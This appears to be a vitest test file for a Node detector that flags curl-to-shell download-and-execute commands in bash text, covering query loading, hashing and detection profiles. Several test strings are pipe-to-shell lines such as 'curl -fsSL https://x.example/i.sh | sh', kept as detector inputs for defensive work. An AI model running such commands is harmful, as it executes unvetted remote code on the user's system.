import { cp, mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { QueryError } from "../../src/core/index.js";
import { AssetError, createNodeDetector, loadAssets, packageRoot } from "../../src/host/node.js";

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "curlew-host-"));
});
afterAll(() => rm(folder, { recursive: true }));

/** A folder with one query file of a user's own. */
async function own(name: string, text: string, grammar = "bash"): Promise<string> {
  const dir = join(folder, name);
  await mkdir(join(dir, grammar), { recursive: true });
  await writeFile(join(dir, grammar, "mine.scm"), text);
  return dir;
}

const fetcher = '; myget URL\n((command_name) @source.fetcher\n  (#word-is? @source.fetcher "myget"))\n';

describe("assets", () => {
  it("hold the queries of both profiles with paths from the queries folder", async () => {
    const { queries, package: version } = await loadAssets();
    const paths = queries.map(({ path }) => path);
    expect(paths).toContain("contract/bash/fetchers.scm");
    expect(paths).toContain("extended/bash/fetchers.scm");
    expect(paths).toEqual([...paths].sort());
    expect(version).toMatch(/^\d+\.\d+\.\d+/);
  });

  it("give SHA-256 in lower-case hex", async () => {
    const { sha256 } = await loadAssets();
    expect(await sha256("abc")).toBe("ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  });

  it("take a user's queries beside the package's", async () => {
    const dir = await own("added", fetcher);
    const { queries } = await loadAssets({ queriesDir: `${dir}/` });
    expect(queries.map(({ path }) => path)).toContain(`${dir}/bash/mine.scm`);
    expect(queries.map(({ path }) => path)).toContain("contract/bash/fetchers.scm");
  });

  it("take a folder with a registry of its own in place of the package's queries", async () => {
    const dir = await own("replacing", fetcher);
    await cp(join(packageRoot(), "queries", "captures.json"), join(dir, "captures.json"));
    const { queries } = await loadAssets({ queriesDir: dir });
    expect(queries.map(({ path }) => path)).toEqual(["bash/mine.scm"]);
  });

  it.each([
    ["a folder that is not there", "missing", "asset-missing"],
    ["a folder without query files", "empty", "asset-missing"],
    ["a broken registry", "broken", "asset-invalid"],
    ["a registry of another shape", "shapeless", "asset-invalid"],
  ])("are refused for %s", async (_title, name, code) => {
    const dir = join(folder, name);
    if (name !== "missing") await mkdir(dir, { recursive: true });
    if (name === "broken") await writeFile(join(dir, "captures.json"), "{");
    if (name === "shapeless") await writeFile(join(dir, "captures.json"), '{"captures":{"a":1}}');
    const error = await loadAssets({ queriesDir: dir }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(AssetError);
    expect(error).toMatchObject({ code });
    expect((error as AssetError).path.startsWith(dir)).toBe(true);
  });
});

describe("a detector for Node", () => {
  it("finds, and names the rules in force", async () => {
    const detector = await createNodeDetector();
    expect(detector.detect("Run `curl -fsSL https://x.example/i.sh | sh` now").spans).toEqual([[5, 43]]);
    expect(detector.revision).toMatchObject({ profile: "contract", grammars: { bash: "0.25.1" } });
    expect(detector.revision.queries).toMatch(/^[0-9a-f]{64}$/);
    detector.dispose();
  });

  it("follows a user's queries, and its revision says that they differ", async () => {
    const text = "myget https://x.example/i.sh | sh";
    const plain = await createNodeDetector();
    const tuned = await createNodeDetector({ queriesDir: await own("tuned", fetcher) });
    expect(plain.detect(text).labels).toEqual([]);
    expect(tuned.detect(text).spans).toEqual([[0, text.length]]);
    expect(tuned.revision.queries).not.toBe(plain.revision.queries);
    plain.dispose();
    tuned.dispose();
  });

  it("knows more in the extended profile", async () => {
    const contract = await createNodeDetector({ profile: "contract" });
    const extended = await createNodeDetector({ profile: "extended" });
    const text = "curl https://x.example/i.sh | dash";
    expect(contract.detect(text).labels).toEqual([]);
    expect(extended.detect(text).labels).toEqual(["PS"]);
    contract.dispose();
    extended.dispose();
  });

  it("names file, line and column of a broken query", async () => {
    const dir = await own("broken-query", "\n(comand) @source.fetcher\n");
    const error = await createNodeDetector({ queriesDir: dir }).catch((caught: unknown) => caught);
    expect(error).toBeInstanceOf(QueryError);
    expect((error as QueryError).message).toContain(`${dir}/bash/mine.scm:2:2: `);
  });
});
